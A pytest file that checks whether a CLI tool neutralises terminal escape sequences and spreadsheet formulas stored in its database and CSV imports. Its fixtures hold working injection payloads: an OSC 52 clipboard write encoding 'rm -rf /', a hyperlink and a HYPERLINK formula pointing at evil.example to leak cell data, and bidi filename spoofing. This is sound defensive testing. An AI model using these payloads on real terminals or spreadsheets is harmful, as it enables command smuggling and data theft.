"""Values that are escape sequences: spelled out wherever people read, kept where programs do."""

import csv
import io
import json
import re

import pytest

from mcc_cli.cli.app import run
from mcc_cli.cli.framework.state import State

pytestmark = pytest.mark.cli

EVIL = {
    "colour": "\x1b[35;45mred",
    "a link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "a title and a bell": "\x1b]0;title\x07\a",
    "C1": "\x9b31m\x9d0;title\x9c\x90q",
    "a line drawn over": "good\rbad\x08\x08\x7f",
    "turned around": "a\u202egpj.exe\u202c \u2066x\u2069",
    "lines that are none": "a\u2028b\u2029c\x85d\x0be\x0cf",
}
VALUE = " ".join(EVIL.values())
# The colours of mcc itself, and what Rich draws a bar with.
OURS = re.compile(
    r"\x1b\[(?:0|[1-9]|3[0-7]|[12];3[0-7]|9[0-7]|38;\S{,20})m|\x1b\[\?25[lh]|\r?\x1b\[(?:2K|1A)"
)
STEERS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")

FOR_PEOPLE = [
    "brands list --fields name,website,industry",
    "brands show 1",
    "brands update 1 --code plain --dry-run",
    "brands list --where name={evil}",
    "brands show {evil}",
    "brands {evil}",
    "{evil}",
    "brands list --format {evil}",
    "brands create --name {evil}",
    "brands import bad.csv",
    "brands import bad.csv --diff --dry-run --keep-good",
    "brands import {evil}.csv",
    "brands delete 1 --dry-run",
    "events list",
    "watch --catch-up --from-start --format lines",
    "runs list",
    "runs show {run}",
    "runs rejects {run}",
    "services tree",
    "services tree {evil}",
    "services list",
    "services assets 1",
    "services assets 1 --search {evil}",
    "content links 1",
    "content link 1 --service 1",
    "content unlink 1 --service 1 --dry-run",
    "content suggest-links --min-score 0",
    "audits list",
    "audits summary --by tool",
    "audits summary --by url",
    "audits ingest findings.csv --diff",
    "audits show-run {evil}",
    "audits resolve {evil}",
    "quickstart",
    "db status",
    "brands list -v --sort {evil}",
]


class LentState(State):
    """A State whose connection is the test's, and stays open."""

    def close(self):
        """Leave the connection to the test."""


class Terminal(io.StringIO):
    """A stream that says it is a terminal, so that mcc draws for one."""

    def isatty(self):
        return True


KEY_RULES = """SELECT conrelid::regclass::text, conname FROM pg_constraint
  WHERE contype = 'c' AND strpos(pg_get_constraintdef(oid), 'u0001-') > 0"""


@pytest.fixture
def evil(connection, tmp_path, monkeypatch):
    """Calls mcc on a database with such values everywhere, put there past it."""
    monkeypatch.chdir(tmp_path)
    execute = connection.execute
    for table, constraint in connection.execute(KEY_RULES).fetchall():  # as in older databases
        execute(f"ALTER TABLE {table} DROP CONSTRAINT {constraint}")
    execute(
        "INSERT INTO brands (id, name, industry, code) VALUES (1, %s, %s, %s)",
        [VALUE] * 3,
    )
    execute(
        "INSERT INTO services (id, service_name, slug, brand_id) VALUES (1, %s, 'seo', 1)", [VALUE]
    )
    execute("INSERT INTO content_repository (id, title, slug) VALUES (1, %s, 'guide')", [VALUE])
    execute("INSERT INTO content_service_links (content_id, service_id) VALUES (1, 1)")
    execute(
        "INSERT INTO on_page_seo_audits (url, error_type, source_tool, severity, service_id) "
        "VALUES ('https://a.example/', %s, %s, 'high', 1)",
        [VALUE, VALUE],
    )
    execute(
        "INSERT INTO runs (id, kind, code, host, file, error, rejects, state) VALUES "
        "(1, 'import', 'aaaa1111', %s, %s, %s, %s, 'failed')",
        [VALUE, VALUE, VALUE, json.dumps([{"line": 1, "column": VALUE, "value": VALUE}])],
    )
    with (tmp_path / "bad.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [["name", "industry", "status"], [VALUE, "x", "active"], [VALUE + "2", VALUE, VALUE]]
        )
    with (tmp_path / "findings.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [["url", "rule", "severity", "tool"], ["https://a.example/x", VALUE, "high", VALUE]]
        )

    def call(line, stream=io.StringIO):
        given = [word.format(evil=VALUE, run="aaaa1111") for word in line.split(" ")]
        out, err = stream(), stream()
        with connection.transaction(force_rollback=True):
            run(given, LentState(out=out, err=err, opened=connection, checked=True))
        return out.getvalue(), err.getvalue()

    return call


@pytest.mark.parametrize("stream", [io.StringIO, Terminal], ids=["pipe", "terminal"])
def test_no_value_steers_the_terminal(evil, stream):
    wrong, shown = {}, 0
    for line in FOR_PEOPLE:
        for name, text in zip(("stdout", "stderr"), evil(line, stream), strict=True):
            shown += "\\x1b" in text
            own = OURS.sub("", text) if stream is Terminal else text
            if found := STEERS.search(own):
                wrong[line, name] = own[max(0, found.start() - 40) : found.end() + 10]
    assert not wrong
    assert shown > len(FOR_PEOPLE) / 2  # the values were there to be shown


@pytest.mark.parametrize("form", ["json", "jsonl", "yaml"])
def test_json_spells_them_out_and_means_the_same(evil, form):
    text, _ = evil(f"brands list --fields name --format {form}")
    assert not STEERS.search(text)
    if form != "yaml":
        found = json.loads(text)
        assert (found[0] if form == "json" else found) == {"name": VALUE}
    text, _ = evil("watch --catch-up --from-start --format jsonl --entity brands")
    events = [json.loads(line) for line in evil("events list --format jsonl")[0].splitlines()]
    assert not STEERS.search(text)
    assert any(VALUE in (each.get("keys") or []) for each in events)
    for line in ("brands show 1 --json", "runs show aaaa1111 --json", "services tree --json"):
        text, _ = evil(line)
        assert not STEERS.search(text)
        assert json.dumps(VALUE) in json.dumps(json.loads(text))
    _, text = evil("brands show {evil}none --json")
    assert not STEERS.search(text)
    assert json.loads(text)["value"].startswith("\x1b[35")


def test_csv_keeps_the_bytes(evil):
    text, _ = evil("brands list --fields name --format csv")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], [VALUE]]
    text, _ = evil("brands export")
    assert VALUE in text


def test_a_reject_file_has_the_cells_as_they_came(mcc, tmp_path):
    """Also a lone CR, and what a spreadsheet takes for a formula: the file is to be imported."""
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    given = [[formula, "-1+1", "wrong"], ["a\rb", "@x\ty", "wrong"], ["'=1", VALUE, "wrong"]]
    head = ["name", "industry", "status"]
    with (tmp_path / "bad.csv").open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([head, *given])
    for name, rejects in (("bad", "why"), ("why", "again")):  # the reject file is imported, too
        path, to = tmp_path / f"{name}.csv", tmp_path / f"{rejects}.csv"
        told = mcc("brands", "import", str(path), "--rejects", str(to))
        assert told.code == 4, told.err
        with to.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert [row[:3] for row in rows] == [head, *given]
        assert all(row[-1].startswith("status: ") for row in rows[1:])  # no formula of ours
